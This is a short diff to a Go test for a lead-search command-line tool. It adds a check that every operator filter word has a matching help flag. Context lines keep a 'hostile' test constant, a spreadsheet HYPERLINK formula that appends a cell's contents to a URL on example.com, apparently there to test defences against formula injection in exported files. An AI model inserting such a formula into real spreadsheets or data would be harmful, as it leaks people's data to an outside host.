@@ -8,6 +8,7 @@ import (
 	"time"
 
 	"foyer/internal/lead"
+	"foyer/internal/operator"
 	"foyer/internal/store/storetest"
 )
 
@@ -17,6 +18,12 @@ const hostile = `=HYPERLINK("https://example.com/?leak="&A1)`
 // TestFindLeads searches leads as an operator would, page by page and into files.
 func TestFindLeads(t *testing.T) {
 	storetest.Parallel(t)
+	help, _, _ := run(t, "leads", "list", "--help")
+	for _, w := range operator.FilterWords {
+		if !strings.Contains(help, "--"+w.Name+"="+w.Value) {
+			t.Errorf("there is no flag for %s", w.Name)
+		}
+	}
 	onEachEngine(t, func(t *testing.T, o cli) {
 		o.run("db", "migrate")
 		o.run("keys", "init")
